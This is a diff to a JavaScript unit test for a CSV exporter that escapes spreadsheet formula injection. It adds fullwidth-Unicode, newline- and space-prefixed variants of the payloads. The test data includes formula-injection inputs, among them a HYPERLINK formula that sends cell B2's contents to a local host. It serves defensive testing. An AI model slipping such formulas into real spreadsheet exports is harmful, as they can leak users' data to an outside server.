@@ -201,6 +201,9 @@ describe('CSV', () => {
         { fullName: '=HYPERLINK("http://127.0.0.1:6199/?"&B2,"click")', code: '0061234508', balance: -5 },
         { fullName: '+1+1', code: '@SUM(A1)', balance: 0 },
         { fullName: '-2', code: '\tx', balance: null },
+        { fullName: '\n=HYPERLINK("x")', code: '\uFF1D1+1', balance: 1 },
+        { fullName: '\uFF0B1', code: '\uFF20SUM(A1)', balance: 2 },
+        { fullName: '\uFF0D2', code: ' =1+1', balance: 3 },
       ],
     );
     expect(csv.slice(1).split('\r\n')).toEqual([
@@ -208,6 +211,9 @@ describe('CSV', () => {
       `"'=HYPERLINK(""http://127.0.0.1:6199/?""&B2,""click"")",0061234508,-5`,
       "'+1+1,'@SUM(A1),0",
       "'-2,'\tx,",
+      `"'\n=HYPERLINK(""x"")",'\uFF1D1+1,1`,
+      "'\uFF0B1,'\uFF20SUM(A1),2",
+      "'\uFF0D2, =1+1,3",
       '',
     ]);
   });
